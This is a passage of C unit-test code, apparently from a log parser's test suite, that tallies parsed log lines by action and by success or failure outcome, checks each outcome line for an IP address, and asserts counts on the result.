            test_fail(__FILE__, __LINE__, "%s", line);
        known += text_has(&t, TEXT_ACTION);
        if (!text_has(&t, TEXT_OUTCOME))
            continue;
        failures += str_is(t.v[TEXT_OUTCOME].s, "failure") ? t.repeat : 0;
        successes += str_is(t.v[TEXT_OUTCOME].s, "success");
        CHECK(text_has(&t, TEXT_IP));
    }
    CHECK(lines >= 1999 && known > lines / 2);
    CHECK_INT(successes, 1);
    CHECK(failures >= 524);
}
